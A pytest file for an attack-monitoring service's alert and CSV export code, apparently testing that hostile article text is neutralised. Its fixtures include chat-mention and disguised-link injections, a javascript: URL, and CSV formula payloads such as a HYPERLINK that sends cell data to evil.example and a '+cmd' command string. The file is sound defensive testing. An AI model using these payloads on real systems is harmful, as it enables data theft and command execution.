"""Alert bodies, formats and signatures (monitor/pipeline/alerts.py, monitor/http.py)."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import time
from datetime import UTC, date, datetime
from typing import Any

import pytest
from standardwebhooks import Webhook, WebhookVerificationError

from monitor.http import sign
from monitor.pipeline.alerts import alert_body, event_object, render_alert
from monitor.pipeline.exports import CSV_COLUMNS, events_csv
from monitor.records import Attribution, Event, Outcome, Source
from tests.conftest import ROOT

SAMPLE = Event(
    id=7,
    key="tower-22/2024-01-28",
    base_id="tower-22",
    base_name="Tower 22",
    base_mention="Tower 22",
    country="JO",
    location=(33.3167, 38.6906),
    day=date(2024, 1, 28),
    day_expression="on sunday",
    weapons=("drone",),
    munitions_count=1,
    attack_count=1,
    claimed_by="Islamic Resistance in Iraq",
    attribution=Attribution.CONFIRMED,
    outcome=Outcome.CASUALTIES,
    injured=34,
    killed=3,
    first_reported_at=datetime(2024, 1, 28, 15, 2, 11, tzinfo=UTC),
    updated_at=datetime(2024, 1, 29, 9, 40, tzinfo=UTC),
    sources=(
        Source(
            url="https://news.example/2024/01/28/tower-22",
            title="Three US troops killed in drone attack in Jordan",
            published_at=datetime(2024, 1, 28, 15, 0, tzinfo=UTC),
            evidence="Three US soldiers were killed and 34 injured on Sunday when a one-way attack "
            "drone struck Tower 22, a US outpost in Jordan, the Pentagon said.",
        ),
    ),
)


def _like_sample(**fields: object) -> Event:
    return Event(**{**{f: getattr(SAMPLE, f) for f in SAMPLE.__slots__}, **fields})  # type: ignore[arg-type]


def test_readme_documents_the_alert_body() -> None:
    """The README's sample alert is exactly what the code renders for the same event."""
    readme = (ROOT / "README.md").read_text()
    match = re.search(r"<!-- alert-sample -->\n```json\n(.*?)\n```", readme, re.DOTALL)
    assert match is not None
    assert json.loads(match.group(1)) == alert_body("event.created", SAMPLE)


@pytest.mark.parametrize("fmt", ["json", "slack", "discord", "teams"])
def test_every_format_renders_the_event(fmt: str) -> None:
    """Each webhook format is valid JSON that names the base, the day and the source."""
    body = render_alert(alert_body("event.updated", SAMPLE), fmt)
    text = body.decode()
    json.loads(text)
    assert "Tower 22" in text
    assert "2024-01-28" in text
    assert "news.example" in text


def test_long_evidence_is_cut_to_the_service_limits() -> None:
    """Huge evidence texts keep every Slack section and the Discord description within limits."""
    long_source = Source(
        url="https://x.example/", title="t", published_at=None, evidence="word " * 5000
    )
    body = alert_body("event.created", _like_sample(sources=(long_source,) * 5))
    slack = json.loads(render_alert(body, "slack"))
    assert all(len(block["text"]["text"]) <= 3000 for block in slack["blocks"])
    discord = json.loads(render_alert(body, "discord"))
    assert len(discord["embeds"][0]["description"]) <= 4096


# What anyone who gets a sentence into a news page or a feed could write: mentions, disguised
# and bare links in each service's syntax, markup, a bidi override, and a megabyte of text.
HOSTILE = (
    "<!channel> <!here> <!everyone> <@U024BE7LH> <!subteam^S1|team> <#C1> <t:1:R> "
    "<https://evil.example|Pentagon statement> [Pentagon statement](https://evil.example) "
    "[x]( https://evil.example ) @everyone @here @channel <@123456> <@!42> <@&987> <#555> "
    "visit evil.com, www.evil.net/x, EVIL.COM or http://10.0.0.1/x, mail x@evil.org "
    "or evil\u3002biz, evil\uff0einfo "
    "\u202egnp.exe\n# heading\n> quote *bold* _it_ ~~s~~ `code` ||spoiler|| \\<@1> "
)
EVIL = (
    "evil.example",
    "evil.com",
    "www.evil.net",
    "evil.org",
    "10.0.0.1",
    "://evil",
    "evil\u3002biz",
    "evil\uff0einfo",
)
TRICKY_URL = "https://news.example/a|b>c)d]e<f (g)&h=1"
TRICKY_LINK = "https://news.example/a%7Cb%3Ec%29d%5De%3Cf%20%28g%29&h=1"
HOSTILE_EVENT = _like_sample(
    base_name=None,
    base_mention=HOSTILE + "x" * 1_000_000,
    claimed_by=HOSTILE,
    weapons=(HOSTILE, "drone](https://evil.example)"),
    sources=tuple(
        Source(url=url, title=HOSTILE + "T" * 1_000_000, published_at=None, evidence=evidence)
        for url, evidence in [
            (TRICKY_URL, HOSTILE + "A" * 1_000_000),
            ("javascript:alert(1)//https://evil.example", HOSTILE),
            ("https://news.example@evil.example/", HOSTILE),
        ]
    ),
)


def _texts(fmt: str, message: dict[str, Any]) -> list[str]:
    """Every text the service shows, as the service reads it (markup not yet applied)."""
    if fmt == "slack":
        return [message["text"], *(block["text"]["text"] for block in message["blocks"])]
    if fmt == "discord":
        embed = message["embeds"][0]
        return [message["content"], embed["title"], embed["description"]]
    card = message["attachments"][0]["content"]
    return [run["text"] for block in card["body"] for run in block["inlines"]]


def _links(fmt: str, message: dict[str, Any]) -> list[str]:
    """The link targets (and mentions) the service would make of the message."""
    if fmt == "teams":
        card = message["attachments"][0]["content"]
        runs = [run for block in card["body"] for run in block["inlines"]]
        return [run["selectAction"]["url"] for run in runs if "selectAction" in run]
    texts = _texts(fmt, message)
    if fmt == "slack":  # the header is plain_text: no markup at all
        texts = [texts[0], *texts[2:]]
    else:  # a backslash escapes the next character
        texts = [re.sub(r"\\.", "_", text, flags=re.DOTALL) for text in texts]
    return [
        found
        for text in texts
        for found in re.findall(r"<[^<>\s]*>?|\[[^\]]*\]\s*\(", text)  # <...>, [text](
    ]


@pytest.mark.parametrize("fmt", ["slack", "discord", "teams"])
def test_article_text_makes_no_link_and_no_mention(fmt: str) -> None:
    """From a hostile article, a chat message shows its text quoted: no mention, no link, no
    disguised or bare URL survives; the one link is the source URL, percent-encoded so that
    it cannot break out of the link syntax."""
    message = json.loads(render_alert(alert_body("event.created", HOSTILE_EVENT), fmt))
    link = TRICKY_LINK.replace("&", "&amp;") if fmt == "slack" else TRICKY_LINK
    assert _links(fmt, message) == ([link] if fmt == "teams" else [f"<{link}>"])
    for text in _texts(fmt, message):
        shown = text.replace(f"<{link}>", "").replace(link, "")
        assert not re.search(r"@\w", shown), shown  # @everyone, @here, @channel, <@id>
        assert not re.search(r"<[!@#]", shown), shown  # even where no markup is parsed
        for host in EVIL:
            assert host not in shown.lower().replace("\\", ""), (host, shown)
        assert "\u202e" not in shown
    if fmt == "discord":
        assert message["allowed_mentions"] == {"parse": []}


@pytest.mark.parametrize("fmt", ["json", "slack", "discord", "teams"])
def test_alert_bodies_are_bounded(fmt: str) -> None:
    """Megabyte titles, mentions and evidence make an alert of a few kilobytes at most."""
    assert len(render_alert(alert_body("event.created", HOSTILE_EVENT), fmt)) < 16_000


@pytest.mark.parametrize("fmt", ["slack", "discord", "teams"])
def test_the_source_url_is_the_link_and_shown_as_is(fmt: str) -> None:
    """An ordinary source URL is the message's link, unchanged, and the text reads as written."""
    message = json.loads(render_alert(alert_body("event.created", SAMPLE), fmt))
    url = "https://news.example/2024/01/28/tower-22"
    assert _links(fmt, message) == ([url] if fmt == "teams" else [f"<{url}>"])
    assert any("the Pentagon said." in text for text in _texts(fmt, message))


SECRET = "whsec_" + base64.b64encode(b"a key of thirty-two random bytes").decode()


def test_signature_verifies_with_the_standard_webhooks_library() -> None:
    """A delivered alert passes ``standardwebhooks.Webhook(secret).verify``, the call the
    README gives receivers, and fails it with another key."""
    body = render_alert(alert_body("event.created", SAMPLE), "json")
    stamp = int(time.time())
    headers = {
        "webhook-id": "msg_1",
        "webhook-timestamp": str(stamp),
        "webhook-signature": sign(SECRET, "msg_1", stamp, body),
    }
    assert Webhook(SECRET).verify(body, headers)["event"]["base"] == "tower-22"
    other = "whsec_" + base64.b64encode(b"another key, thirty-two bytes.." + b"!").decode()
    with pytest.raises(WebhookVerificationError):
        Webhook(other).verify(body, headers)


def test_csv_carries_every_field_of_the_event_object() -> None:
    """The CSV has a column for each field of the JSON event object (location as latitude and
    longitude, sources as URLs and as JSON), and a CSV reader gets the values back."""
    flat = set(event_object(SAMPLE)) - {"location", "sources"}
    assert set(CSV_COLUMNS) == flat | {"latitude", "longitude", "source_urls", "sources"}
    (row,) = csv.DictReader(io.StringIO(events_csv([SAMPLE])))
    assert list(row) == list(CSV_COLUMNS)
    expected = event_object(SAMPLE)
    for key in flat - {"weapons", "tracked", "id", "munitions_count", "attack_count"}:
        assert row[key] == str(expected[key] if expected[key] is not None else ""), key
    assert (float(row["latitude"]), float(row["longitude"])) == SAMPLE.location
    assert json.loads(row["sources"]) == expected["sources"]
    assert row["source_urls"] == SAMPLE.sources[0].url


def test_csv_row_of_an_untracked_event_says_where_the_attack_was() -> None:
    """An untracked event has no base or location; its row names the target as the article
    did (base_mention)."""
    untracked = _like_sample(
        base_id=None, base_name=None, base_mention="a US base in northeastern Syria", location=None
    )
    (row,) = csv.DictReader(io.StringIO(events_csv([untracked])))
    assert (row["base"], row["latitude"], row["tracked"]) == ("", "", "False")
    assert row["base_mention"] == "a US base in northeastern Syria"


def test_csv_neutralises_formulas_from_articles() -> None:
    """Text cells a spreadsheet would run as formulas get a leading ' (OWASP); numbers, and
    text with commas, quotes and line breaks, come back as written."""
    hostile = _like_sample(
        base_mention='=HYPERLINK("https://evil.example/?"&A1,"click")',
        claimed_by="+cmd|' /C calc'!A0",
        day_expression="-2+3",
        location=(-33.5, -70.25),
        sources=(
            Source(
                url="https://news.example/a",
                title="@SUM(1,2)",
                published_at=None,
                evidence='He said, "drones hit",\nthen left.',
            ),
        ),
    )
    (row,) = csv.DictReader(io.StringIO(events_csv([hostile])))
    assert row["base_mention"] == """'=HYPERLINK("https://evil.example/?"&A1,"click")"""
    assert row["claimed_by"] == "'+cmd|' /C calc'!A0"
    assert row["date_expression"] == "'-2+3"
    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
    (source,) = json.loads(row["sources"])
    assert (source["title"], source["evidence"]) == (
        "@SUM(1,2)",
        'He said, "drones hit",\nthen left.',
    )
    assert not row["sources"].startswith(("=", "+", "-", "@"))
